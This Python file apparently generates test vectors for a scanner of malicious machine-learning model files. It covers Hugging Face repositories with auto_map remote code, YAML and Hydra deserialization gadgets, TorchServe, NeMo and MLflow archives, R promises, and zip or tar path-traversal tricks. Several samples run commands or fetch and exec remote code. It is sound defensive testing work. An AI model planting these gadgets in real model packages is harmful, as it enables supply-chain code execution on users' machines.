# ruff: noqa: E501 - tables of texts
"""Fresh malicious texts and folders: hub repositories, YAML, MLflow, NeMo, TorchServe, spaCy, R and archives."""

from __future__ import annotations

import json
import struct
from typing import TYPE_CHECKING

from fresh_evil_keras import zipped
from fresh_evil_weights import TEMPLATES

from vectors import encoders, writers
from vectors.asm import COMMAND, Vector, payload

if TYPE_CHECKING:
    from collections.abc import Iterator

CODE = f"import os\nos.system({COMMAND!r})\n"
WEIGHTS = encoders.safetensors({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, b"\0" * 8)
BERT = {
    "architectures": ["BertModel"],
    "model_type": "bert",
    "hidden_size": 8,
    "num_attention_heads": 2,
    "num_hidden_layers": 1,
    "vocab_size": 30,
}


def vectors() -> Iterator[Vector]:
    """All of this file."""
    for part in (hub, yamls, serving, r_data, archives):
        yield from part()


def text(value: object) -> bytes:
    return (value if isinstance(value, str) else json.dumps(value)).encode()


def repository(**files: object) -> dict[str, bytes]:
    return {"config.json": text(BERT), "model.safetensors": WEIGHTS} | {
        name: value if isinstance(value, bytes) else text(value) for name, value in files.items()
    }


def hub() -> Iterator[Vector]:
    """Folders as on a hub of models: code of the repository, templates, pickles beside safe weights."""
    model = f"{CODE}from transformers import PreTrainedModel\n\nclass Evil(PreTrainedModel):\n    pass\n"
    remote = {**BERT, "auto_map": {"AutoModel": "modeling.Evil", "AutoConfig": "configuration.EvilConfig"}}
    cases: dict[str, tuple[dict[str, bytes], str]] = {
        "auto_map and its code": (repository(**{"config.json": remote, "modeling.py": model, "configuration.py": CODE}), "dangerous"),
        "auto_map to another repository": (repository(**{"config.json": {**BERT, "auto_map": {"AutoModelForCausalLM": "attacker/code--modeling.Evil"}}}), "not-clean"),
        "auto_map of a tokenizer": (repository(**{"tokenizer_config.json": {"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["tok.Evil", None]}}, "tok.py": CODE}), "dangerous"),
        "auto_map of a processor": (repository(**{"preprocessor_config.json": {"auto_map": {"AutoImageProcessor": "proc.P"}}, "proc.py": "import subprocess\nsubprocess.run(['true'])\n"}), "dangerous"),
        "custom pipeline": (repository(**{"config.json": {**BERT, "custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}, "pipe.py": CODE}), "dangerous"),
        "code that hides its import": (repository(**{"config.json": remote, "configuration.py": "x = 1\n", "modeling.py": "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\nclass Evil: pass\n"}), "dangerous"),
        "code in base64": (repository(**{"config.json": remote, "configuration.py": "", "modeling.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"}), "dangerous"),
        "code in a decorator of a class": (repository(**{"config.json": remote, "configuration.py": "", "modeling.py": "import subprocess\nclass Evil:\n    x = [subprocess.Popen(['true'])]\n"}), "dangerous"),
        "code that runs when the class is made": (repository(**{"config.json": remote, "configuration.py": "", "modeling.py": "import os\nclass Evil:\n    def __init_subclass__(cls): os.system('true')\nclass B(Evil): pass\n"}), "dangerous"),
        "code that fetches": (repository(**{"config.json": remote, "configuration.py": "", "modeling.py": "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/').read())\nclass Evil: pass\n"}), "dangerous"),
        "diffusers pipeline of its own": ({"model_index.json": text({"_class_name": ["my_pipeline", "EvilPipeline"], "_diffusers_version": "0.30.0", "unet": ["evil_unet", "U"]}), "my_pipeline.py": CODE.encode(), "unet/evil_unet.py": CODE.encode()}, "dangerous"),
        "sentence transformer of its own": (repository(**{"modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Evil"}], "custom_st.py": CODE}), "dangerous"),
        "safe weights, pickle for the old loader": (repository(**{"pytorch_model.bin": payload(2)}), "dangerous"),
        "a retriever's index": (repository(**{"hf_bert_base.hnswSQ8_correct_phi_128.c_index.index_meta.dpr": payload()}), "not-clean"),
        "pickle for a vision model": (repository(**{"rng_state_0.pth": payload(2), "optimizer.pt": payload(4)}), "dangerous"),
        "adapter with code": ({"adapter_config.json": text({"peft_type": "LORA", "base_model_name_or_path": "attacker/m", "auto_mapping": {"base_model_class": "Evil", "parent_library": "evil_lib.core"}}), "adapter_model.bin": payload(2)}, "dangerous"),
        "transfo-xl vocabulary": (repository(**{"vocab.pkl": payload(2)}), "dangerous"),
        "generation code of its own": (repository(**{"custom_generate/generate.py": CODE, "generation_config.json": {}}), "dangerous"),
        "handler of an endpoint": (repository(**{"handler.py": f"{CODE}class EndpointHandler:\n    def __init__(self, path=''): pass\n"}), "dangerous"),
        "data set script": ({"evil_data.py": f"import datasets\n{CODE}class E(datasets.GeneratorBasedBuilder): pass\n".encode(), "README.md": b"x"}, "not-clean"),
    }  # fmt: skip
    for name, (files, expect) in cases.items():
        yield Vector("hub", name, "repo", files, expect)
    for name, template in list(TEMPLATES.items())[:8]:
        body = (
            template
            if name != "cycler"
            else [{"name": "default", "template": "{{ messages }}"}, {"name": "rag", "template": template}]
        )
        yield Vector(
            "hub",
            f"template in a tokenizer: {name}",
            "repo",
            repository(
                **{"tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "chat_template": body}}
            ),
            "not-clean",
        )
    yield Vector(
        "hub",
        "template in a file",
        "repo",
        repository(**{"chat_template.jinja": TEMPLATES["lipsum"], "tokenizer_config.json": {}}),
        "not-clean",
    )
    yield Vector("hub", "auto_map alone", "config.json", text(remote), "not-clean")
    yield Vector(
        "hub",
        "absolute index of shards",
        "repo",
        repository(
            **{
                "model.safetensors.index.json": {
                    "metadata": {},
                    "weight_map": {"w": "../../../../etc/passwd"},
                }
            }
        ),
        "not-clean",
    )


YAMLS = {
    "python/object/apply": ("!!python/object/apply:os.system ['true']\n", "dangerous"),
    "python/object/new": ("model: !!python/object/new:subprocess.Popen [['true']]\n", "dangerous"),
    "python/name and state": (
        "!!python/object/new:type\nargs: ['z', !!python/tuple [], {'extend': !!python/name:exec}]\nlistitems: \"print(1)\"\n",
        "dangerous",
    ),
    "tag by its URI": (
        "- !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [['true']]\n",
        "dangerous",
    ),
    "tag handle of its own": (
        "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.popen ['true']\n",
        "dangerous",
    ),
    "SnakeYAML script engine": (
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:9/"]]]]\n',
        "dangerous",
    ),
    "hydra, os.system": (
        "trainer:\n  max_epochs: 3\nmodel:\n  _target_: os.system\n  command: 'true'\n",
        "dangerous",
    ),
    "hydra, builtins.exec": (
        "callbacks:\n  - _target_: builtins.exec\n    _args_: ['print(1)']\n",
        "dangerous",
    ),
    "hydra, subprocess in a list": (
        "datamodule:\n  train:\n    dataset: {_target_: subprocess.check_call, args: ['true']}\n",
        "dangerous",
    ),
    "hydra, pickle.load of a file": ("net:\n  _target_: pickle.loads\n  data: x\n", "dangerous"),
    "hydra, get_method": ("f:\n  _target_: hydra.utils.get_method\n  path: os.system\n", "not-clean"),
    "hydra, partial": ("opt:\n  _target_: os.popen\n  _partial_: true\n", "not-clean"),
    "hydra, target through a library": (
        "opt:\n  _target_: torch.serialization.os.system\n  command: 'true'\n",
        "dangerous",
    ),
    "hydra, runpy": ("x:\n  _target_: runpy.run_path\n  path_name: /nonexistent/x.py\n", "dangerous"),
    "omegaconf resolver": ('lr: ${eval:\'__import__("os").system("true")\'}\n', "not-clean"),
    "Lightning class_path": (
        "trainer:\n  logger:\n    class_path: subprocess.Popen\n    init_args: {args: ['true']}\n",
        "dangerous",
    ),
    "an anchor far away": ("a: &t os.system\nb:\n  <<: {_target_: *t}\n  command: 'true'\n", "dangerous"),
    "flow style": ('{model: {"_target_": "os.system", command: "true"}}\n', "dangerous"),
    "JSON under the name": ('{"model": {"_target_": "builtins.eval", "_args_": ["1"]}}\n', "dangerous"),
    "escaped text": ('model: {_target_: "os.\\x73ystem", command: "true"}\n', "dangerous"),
}


def yamls() -> Iterator[Vector]:
    """YAML as PyYAML, Hydra, Lightning and SnakeYAML read it; configurations of spaCy; old Keras; a Modelfile."""
    for index, (name, (value, expect)) in enumerate(YAMLS.items()):
        yield Vector(
            "yaml", name, ("config.yaml", "hparams.yaml", "model.yml")[index % 3], value.encode(), expect
        )
    yield Vector(
        "yaml",
        "spaCy factory of another package",
        "pipe",
        {
            "config.cfg": b'[nlp]\nlang = "en"\npipeline = ["evil"]\n[components.evil]\nfactory = "evil_pkg.run"\n[initialize.before_init]\n@callbacks = "evil.callback.v1"\n',
            "meta.json": b'{"lang": "en", "requirements": ["evil_pkg"]}',
            "evil_pkg.py": CODE.encode(),
            "tokenizer": payload(),
        },
        "not-clean",
    )
    yield Vector(
        "yaml",
        "jsonpickle model",
        "model.json",
        text(
            {
                "py/object": "sklearn.svm._classes.SVC",
                "hook": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]},
            }
        ),
        "not-clean",
    )
    yield Vector(
        "yaml",
        "conda with pip from elsewhere",
        "mlruns",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: model\nmodel_uuid: x\n",
            "code/evil_loader.py": f"{CODE}def _load_pyfunc(path): return 1\n".encode(),
            "model/x": b"1",
        },
        "dangerous",
    )


def serving() -> Iterator[Vector]:
    """TorchServe, NeMo, MLflow, Triton, BentoML, Ray."""
    manifest = {
        "modelServerVersion": "1.0",
        "model": {
            "modelName": "m",
            "serializedFile": "model.pt",
            "handler": "handler.py",
            "modelVersion": "1.0",
        },
    }
    base = {"MAR-INF/MANIFEST.json": text(manifest), "model.pt": WEIGHTS}
    snake = YAMLS["SnakeYAML script engine"][0].encode()
    for name, more, expect in (
        (
            "handler that runs a command",
            {"handler.py": CODE.encode() + b"def handle(data, context): return data\n"},
            "dangerous",
        ),
        (
            "handler under a base64 string",
            {"handler.py": b"import base64 as b\nexec(b.b64decode(b'cHJpbnQoMSk='))\n"},
            "dangerous",
        ),
        ("pickle inside", {"handler.py": b"x = 1\n", "model.pt": payload(2)}, "dangerous"),
        ("workflow with a Java tag", {"handler.py": b"x = 1\n", "workflow.yaml": snake}, "not-clean"),
        (
            "requirements from an index of the attacker",
            {"handler.py": b"x = 1\n", "requirements.txt": b"--index-url http://127.0.0.1:9/\nevil\n"},
            "not-clean",
        ),
        (
            "a member outside the folder",
            {"handler.py": b"x = 1\n", "../../handler2.py": CODE.encode()},
            "not-clean",
        ),
    ):
        yield Vector("mar", name, "model.mar", zipped({**base, **more}), expect)
    nemo = b"target: os.system\nparams:\n  command: 'true'\n"
    for name, files, expect in (
        ("target in the configuration", {"model_config.yaml": nemo, "model_weights.ckpt": b""}, "dangerous"),
        (
            "_target_ of a tokenizer",
            {
                "model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\ntokenizer:\n  _target_: subprocess.getoutput\n  cmd: 'true'\n"
            },
            "dangerous",
        ),
        (
            "pickle as weights",
            {
                "model_config.yaml": b"target: nemo.collections.asr.models.EncDecCTCModel\n",
                "model_weights.ckpt": payload(2),
            },
            "dangerous",
        ),
        (
            "a member outside the folder",
            {
                "model_config.yaml": b"target: nemo.core.ModelPT\n",
                "../../../" + "root" + "/.bashrc": b"true\n",
            },
            "not-clean",
        ),
    ):
        yield Vector(
            "nemo", name, "asr.nemo", writers.tar(files, kind="w:gz" if "pickle" in name else "w"), expect
        )
    yield Vector(
        "nemo",
        "a link out of the folder",
        "asr.nemo",
        writers.tar({"model_config.yaml": b"target: x.Y\n"}, links={"model_weights.ckpt": "/etc/passwd"}),
        "not-clean",
    )
    ml = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: {0}\n    model_path: model.pkl\n  {1}:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\nmlflow_version: 2.9.2\n"
    for name, flavour, loader in (
        ("sklearn", "sklearn", "mlflow.sklearn"),
        ("pyfunc", "python_function_x", "mlflow.pyfunc.model"),
        ("langchain", "langchain", "mlflow.langchain"),
    ):
        yield Vector(
            "mlflow",
            f"pickle of {name}",
            "model",
            {
                "MLmodel": ml.format(loader, flavour).encode(),
                "model.pkl": payload(),
                "requirements.txt": b"mlflow\n",
            },
            "dangerous",
        )
    yield Vector(
        "mlflow",
        "pytorch pickle module",
        "model",
        {
            "MLmodel": ml.format("mlflow.pytorch", "pytorch").encode(),
            "data/pickle_module_info.txt": b"mlflow.pytorch.pickle_module",
            "data/model.pth": payload(2),
        },
        "dangerous",
    )
    yield Vector(
        "mlflow",
        "loader module os",
        "model",
        {"MLmodel": ml.format("antigravity", "x").encode(), "model.pkl": b"\x80\x04N."},
        "not-clean",
    )
    yield Vector(
        "triton",
        "python backend",
        "repo",
        {
            "m/config.pbtxt": b'name: "m"\nbackend: "python"\n',
            "m/1/model.py": f"{CODE}class TritonPythonModel: pass\n".encode(),
        },
        "dangerous",
    )
    yield Vector(
        "bento",
        "a saved model",
        "bento",
        {"model.yaml": b"name: m\nmodule: bentoml.sklearn\n", "saved_model.pkl": payload()},
        "dangerous",
    )


def r_data() -> Iterator[Vector]:
    """R: promises and functions that a later use evaluates."""
    call = encoders.r_call("system", COMMAND)
    values = {
        "promise of system": encoders.r_promise(call, environment=242),
        "promise of eval of text": encoders.r_promise(encoders.r_call("eval", "parse")),
        "promise in a list": struct.pack(">2i", 19, 2) + encoders.r_text("weights") + encoders.r_promise(encoders.r_call("source", "http://127.0.0.1:9/x.R")),
        "function of shell": encoders.r_closure(encoders.r_call("shell", COMMAND)),
    }  # fmt: skip
    for name, value in values.items():
        yield Vector("r", name, "model.rds", encoders.rds(value), "not-clean")
        if name.startswith("promise of"):
            yield Vector("r", f"{name}, gzip", "model.rds", writers.gz(encoders.rds(value)), "not-clean")
    pair = (
        struct.pack(">i", 2 | 0x400)
        + encoders.r_symbol("fit")
        + values["promise of system"]
        + struct.pack(">i", 254)
    )
    yield Vector("r", "workspace", "model.RData", encoders.rds(pair, magic=b"RDX2\n"), "not-clean")
    yield Vector(
        "r",
        "source with a command",
        "predict.rds",
        writers.gz(
            b"X\n"
            + struct.pack(">3i", 3, 0x040201, 0x030500)
            + struct.pack(">i", 5)
            + b"UTF-8"
            + values["function of shell"]
        ),
        "not-clean",
    )


def archives() -> Iterator[Vector]:
    """Archives that hide a pickle or leave their folder."""
    evil = payload()
    for name, data, expect in (
        (
            "zip with a link",
            writers.archive(
                writers.Member("weights", b"/etc/passwd", mode=0o120777),
                writers.Member("weights/x.pkl", evil),
            ),
            "not-clean",
        ),
        ("zip under a picture's suffix", zipped({"logo.png": evil}), "not-clean"),
        ("zip with absolute paths", zipped({"/etc/cron.d/x": b"* * * * * true\n"}), "not-clean"),
        ("zip with backslashes", zipped({"..\\..\\evil.pkl": evil}), "not-clean"),
        (
            "zip with a comment before the end",
            writers.archive(writers.Member("model.pkl", evil), comment=b"PK\x05\x06" + b"x" * 60),
            "not-clean",
        ),
        (
            "zip with a hidden member",
            writers.archive(writers.Member("readme.txt", b"x"), writers.Member("model.pkl", evil), hidden=1),
            "not-clean",
        ),
        (
            "zip with two names for a member",
            writers.archive(writers.Member("model.txt", evil, central="model.pkl")),
            "not-clean",
        ),
        (
            "zip in zip in zip in zip",
            zipped({"a.zip": zipped({"b.zip": zipped({"c.zip": zipped({"m.pkl": evil})})})}),
            "not-clean",
        ),
    ):
        yield Vector("archive", name, "models.zip", data, expect)
    yield Vector(
        "archive",
        "tar with links",
        "models.tar",
        writers.tar({"a.txt": b"x"}, links={"w": "../../../../etc/passwd"}),
        "not-clean",
    )
    yield Vector(
        "archive",
        "tar.xz of a torch file",
        "models.tar.xz",
        writers.tar({"m/model.pt": payload(2)}, kind="w:xz"),
        "not-clean",
    )
    yield Vector(
        "archive",
        "tar.bz2 with a pickle without a suffix",
        "models.tar.bz2",
        writers.tar({"m/blob": evil}, kind="w:bz2"),
        "not-clean",
    )
    yield Vector("archive", "lz4 of a joblib file", "model.joblib.lz4", writers.lz4(evil), "dangerous")
    yield Vector("archive", "zstd of a pickle", "model.pkl.zst", writers.zstd(evil), "dangerous")
    yield Vector("archive", "7z of a repository", "repo.7z", writers.seven("m/model.pkl", evil), "not-clean")
